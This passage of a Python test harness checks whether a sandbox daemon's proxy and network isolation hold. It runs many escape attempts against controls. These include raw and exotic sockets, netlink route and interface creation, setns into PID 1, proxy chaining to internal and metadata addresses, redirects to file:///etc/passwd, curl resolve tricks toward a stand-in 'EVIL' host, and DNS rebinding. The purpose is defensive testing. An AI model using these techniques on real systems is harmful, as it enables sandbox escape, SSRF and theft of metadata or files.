    "UDP to the proxy": lambda: udp("127.0.0.1", 1080), "ping": lambda: icmp(socket.SOCK_DGRAM), "raw ICMP": lambda: icmp(socket.SOCK_RAW), "raw IP": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 255) and "REACHED",
    "fast open": fastopen, "MPTCP": mptcp, "bound to a device": bound, "abstract socket of the host": abstract, "interfaces": interfaces, "getaddrinfo": lookup,
    "packet socket": lambda: packet(socket.SOCK_RAW), "packet socket, cooked": lambda: packet(socket.SOCK_DGRAM), "vsock": vsock,
    "new interface": lambda: netlink(16, struct.pack("=BxHiII", 0, 0, 0, 0, 0) + attribute(3, b"dummy7\0") + attribute(18, attribute(1, b"dummy\0"))),
    "new veth": lambda: netlink(16, struct.pack("=BxHiII", 0, 0, 0, 0, 0) + attribute(3, b"veth7\0") + attribute(18, attribute(1, b"veth\0"))),
    "new address": lambda: netlink(20, struct.pack("=BBBBI", 2, 24, 0, 0, LO) + attribute(2, socket.inet_aton("93.184.1.9")) + attribute(1, socket.inet_aton("93.184.1.9"))),
    "new route": lambda: netlink(24, struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 3, 0, 1, 0) + attribute(4, struct.pack("=I", LO))),
    "new rule": lambda: netlink(32, struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 0, 0, 1, 0)),
    "setns to PID 1": lambda: setns("/proc/1/ns/net"), "setns to the parent": lambda: setns(f"/proc/{os.getppid()}/ns/net"), "unshare": unshared, "tun": lambda: opened("/dev/net/tun"),
    "kernel crypto": lambda: socket.socket(38, socket.SOCK_SEQPACKET) and "REACHED AF_ALG", "nftables": lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12).send(b"") and "REACHED",
    "listeners of the other box": lambda: text(drain(socket.create_connection(("127.0.0.1", 8123)))),
    "the other box by the proxy": lambda: text(drain(connect("127.0.0.1:8123"))),
    "SCTP": lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).connect((EVIL4, 80)) or "REACHED",
    "DCCP": lambda: socket.socket(socket.AF_INET, 6, 33).connect((EVIL4, 80)) or "REACHED",
    "bluetooth": lambda: socket.socket(31, socket.SOCK_RAW, 1) and "REACHED", "CAN": lambda: socket.socket(29, socket.SOCK_RAW, 1) and "REACHED", "TIPC": lambda: socket.socket(30, socket.SOCK_RDM) and "REACHED",
    "SMC": lambda: socket.socket(43, socket.SOCK_STREAM, 0).connect((EVIL4, 80)) or "REACHED", "RDS": lambda: socket.socket(21, socket.SOCK_SEQPACKET) and "REACHED", "XDP": lambda: socket.socket(44, socket.SOCK_RAW) and "REACHED",
}.items():
    row(f"around: {name}", attack, good_url)

# --- through the proxy to itself and to others, with the profile of addresses ---------------
for name, target in {"own HTTP port": "127.0.0.1:3128", "own SOCKS port": "127.0.0.1:1080", "by name": "localhost:3128", "by IPv6": "[::1]:3128", "service of the host": f"127.0.0.1:9000", "service of the host, public": f"{HOST4}:9000",
                     "service of the host, public 6": f"[{HOST6}]:9000", "service of the host by name": "own.example:9000", "address routed to the host": "93.184.77.5:9000",
                     "address routed to the host 6": "[2606:4700:77::5]:9000", "name routed to the host": "routed.example:9000", "API of boxd": "127.0.0.1:8421", "API of boxd, public": f"{HOST4}:8421", "API of boxd by name": "loop.example:8421",
                     "API of boxd 6": "[::1]:8421", "API of boxd mapped": "[::ffff:127.0.0.1]:8421", "API of boxd unspecified": "0.0.0.0:8421"}.items():
    row(f"chained: {name}", lambda target=target: (lambda s: (s.sendall(f"GET http://{PRIVATE}/ HTTP/1.1\r\nHost: {PRIVATE}\r\n\r\n".encode()), "REACHED " + text(drain(s)))[1])(connect(target)), lambda: text(drain(connect(GOOD4 + ":7000"))))
    row(f"chained url: {name}", lambda target=target: (lambda answer: answer if "X-Boxd-Denied" in answer or " 400 " in answer[:20] or " 502 " in answer[:20] else "REACHED " + answer)(raw(f"GET http://{target}/v1/status HTTP/1.1\r\nHost: {target}\r\n\r\n")), good_url)


# --- the daemon's own listeners, with a profile that allows all of the host's own addresses -----
# Something listens at each of these. An attack fails only if the proxy refuses it, by HTTP with the
# reason.
def denied(ask, sign, reason=""):
    try:
        answer = ask()
    except Refused as e:
        answer = str(e)
    return "denied" if answer.startswith(sign) and reason in answer else "REACHED, or not denied: " + answer


def socks_to(host, port):
    return socks(4, socket.inet_pton(socket.AF_INET6, host[1:-1]), port) if host[0] == "[" else socks_name(host, port)


LISTENER = "is a listener of boxd"
for form, host, reason in (("loopback", "127.0.0.1", LISTENER), ("other address", "127.0.0.2", LISTENER), ("public", HOST4, LISTENER), ("mapped", "[::ffff:127.0.0.1]", LISTENER),
                           ("by name", "loop.example", "an address that is not public")):  # of a name, no more is said
    for name, port in {"API": 8421, "LangBot's": 8422, "previews": 8423, "published": 8430}.items():
        row(f"opened, {form}: {name}", lambda host=host, port=port, reason=reason: denied(lambda: connect(f"{host}:{port}") and "", "HTTP/1.1 403 ", reason), lambda host=host: text(drain(connect(f"{host}:9000"))))
        row(f"opened socks, {form}: {name}", lambda host=host, port=port: denied(lambda: socks_to(host, port) and "", "reply b'\\x05\\x02"), lambda host=host: text(drain(socks_to(host, 9000))))
        row(f"opened url, {form}: {name}", lambda host=host, port=port, reason=reason: denied(lambda: raw(f"GET http://{host}:{port}/ HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n"), "HTTP/1.1 403 ", reason),
            lambda host=host: raw(f"GET http://{host}:9001/ HTTP/1.1\r\nHost: {host}:9001\r\nConnection: close\r\n\r\n"))


# --- clients that follow --------------------------------------------------------------------
def follow(to, start=GOOD):
    return subprocess.run(["curl", "-sSL", "--max-time", "10", f"http://{start}/redirect?to={to}"], capture_output=True, text=True).stdout


row("redirect: metadata", lambda: follow(f"http://{METADATA}/"), lambda: follow(f"http://{GOOD}/end"))
row("redirect: evil", lambda: follow(f"https://{EVIL}/"), lambda: follow(f"http://{GOOD}/end"))
row("redirect: loopback", lambda: follow("http://loop.example:9000/"), lambda: follow(f"http://{GOOD}/end"))
row("redirect: file", lambda: follow("file:///etc/passwd"), lambda: follow(f"http://{GOOD}/end"))
row("curl without variables", lambda: subprocess.run(["env", "-i", "curl", "-sS", "--max-time", "5", f"http://{GOOD4}/"], capture_output=True, text=True).stdout,
    lambda: subprocess.run(["curl", "-sS", "--max-time", "5", f"http://{GOOD}/"], capture_output=True, text=True).stdout)
row("curl with resolve", lambda: subprocess.run(["curl", "-sS", "--max-time", "5", "--resolve", f"{GOOD}:80:{EVIL4}", "--noproxy", "*", f"http://{GOOD}/"], capture_output=True, text=True).stdout,
    lambda: subprocess.run(["curl", "-sS", "--max-time", "5", f"http://{GOOD}/"], capture_output=True, text=True).stdout)
row("curl with connect-to", lambda: subprocess.run(["curl", "-sSk", "--max-time", "5", "--connect-to", f"{EVIL}:443:{GOOD}:443", f"https://{EVIL}/"], capture_output=True, text=True).stdout,
    lambda: subprocess.run(["curl", "-sSk", "--max-time", "5", f"https://{GOOD}/"], capture_output=True, text=True).stdout)


def rebind(way):
    """asks again and again for a name that has a new address each time"""
    answers = [attempt(lambda: way("rebind.example")).replace("REACHED 45.33.0.1", "good") for _ in range(16)]
    return f"good: {sum('good' in a for a in answers)} of 16; others: {[a for a in answers if 'good' not in a]}"


def rebind_new():
    """the same with a new connection to the network each time; of eight addresses four are public"""
    said = rebind(by_connect_raw)
    return said if said.startswith("good: 8 ") else "REACHED? " + said


for way in ("url", "connect", "socks"):
    row(f"rebinding: {way}", lambda way=way: rebind(WAYS[way]), lambda way=way: WAYS[way](GOOD))


def attempt(f):
    try:
        return str(f())
    except (Exception, SystemExit) as e:
        return f"{type(e).__name__}: {e}"


def run(name):
    """runs one row in a process of its own, which setns and the like may spoil, and which may hang"""
    attack, control = ROWS[name.removesuffix("+")]
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        signal.alarm(60)
        said = "said: " + attempt(control if name.endswith("+") else attack)
        os.write(w, said.encode("utf-8", "replace")[:4000])
        os._exit(0)
    os.close(w)
    return r, pid


def main():
    names = json.load(sys.stdin)
    if names == ["list"]:  # a control that several rows of a kind share is there once
        controls = {(name.split(":")[0], control.__code__): name + "+" for name, (_, control) in ROWS.items()}
        print(json.dumps(list(ROWS) + list(controls.values())))
        return
    at_once = 16
    running = {}  # pipe: (name, pid, what it has said, since when)
    while names or running:
        while names and len(running) < at_once:
            name = names.pop(0)
            r, pid = run(name)
            running[r] = (name, pid, [], time.monotonic())
        for r in select.select(list(running), [], [])[0]:
            name, pid, said, began = running[r]
            more = os.read(r, 4096)
            if more:
                said.append(more)
                continue
            os.close(r)
            os.waitpid(pid, 0)
            del running[r]
            print(json.dumps({"name": name, "said": text(b"".join(said)) or "hung or died", "took": round(time.monotonic() - began, 1)}), flush=True)


main()
